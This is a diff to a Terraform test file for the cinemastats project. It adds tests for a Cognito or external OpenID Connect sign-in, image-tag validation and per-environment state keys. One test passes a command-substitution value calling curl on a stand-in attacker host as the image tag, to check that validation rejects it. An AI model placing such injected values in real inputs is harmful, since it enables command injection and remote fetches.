@@ -14,9 +14,6 @@ variables {
   github_repository = "example-org/cinemastats"
   state_bucket_name = "cinemastats-tfstate-123456789012"
   alarm_email       = "ops@example.com"
-  # Sign-in is required in prod (this file also runs with prod.tfvars).
-  web_auth_authority = "https://login.example.com/tenant/v2.0"
-  web_auth_client_id = "cinemastats-web"
 }
 
 run "the_platform_plans_and_wires_together" {
@@ -41,24 +38,61 @@ run "the_platform_plans_and_wires_together" {
   }
 }
 
-run "prod_cannot_run_without_sign_in" {
-  command = plan
-
-  variables {
-    environment        = "prod"
-    web_auth_authority = ""
-    web_auth_client_id = ""
+run "every_environment_signs_in_with_its_own_cognito_pool" {
+  assert {
+    condition     = length(module.identity) == 1 && output.sign_in_url != null && output.cognito_user_pool_id == "eu-west-2_Example0"
+    error_message = "Without an external issuer, Terraform must make the Cognito user pool (hosted sign-in, groups, the web as client)."
   }
 
-  expect_failures = [var.web_auth_authority]
+  assert {
+    condition     = module.identity[0].issuer == "https://cognito-idp.${var.region}.amazonaws.com/eu-west-2_Example0"
+    error_message = "The web must sign in against this environment's user pool."
+  }
+}
+
+run "an_external_issuer_replaces_cognito" {
+  variables {
+    web_auth_authority = "https://login.example.com/tenant/v2.0"
+    web_auth_client_id = "cinemastats-web"
+  }
+
+  assert {
+    condition     = length(module.identity) == 0 && output.sign_in_url == null
+    error_message = "With an external OpenID Connect issuer no Cognito pool is made."
+  }
 }
 
 run "an_issuer_needs_a_client_id" {
   command = plan
 
   variables {
+    web_auth_authority = "https://login.example.com/tenant/v2.0"
     web_auth_client_id = ""
   }
 
   expect_failures = [var.web_auth_client_id]
+}
+
+run "an_image_tag_from_free_text_is_rejected" {
+  command = plan
+
+  variables {
+    image_tag = "$(curl evil.example)"
+  }
+
+  expect_failures = [var.image_tag]
+}
+
+run "each_environment_keeps_its_state_under_its_own_key" {
+  command = plan
+
+  assert {
+    condition     = local.state_key == regex("key\\s*=\\s*\"([^\"]+)\"", file("environments/${var.environment}.s3.tfbackend"))[0]
+    error_message = "The CI roles' state key must be the key environments/<env>.s3.tfbackend configures."
+  }
+
+  assert {
+    condition     = local.state_key == "cinemastats/${var.environment}.tfstate"
+    error_message = "Each environment must keep its state under cinemastats/<env>.tfstate, the one key its CI roles reach."
+  }
 }
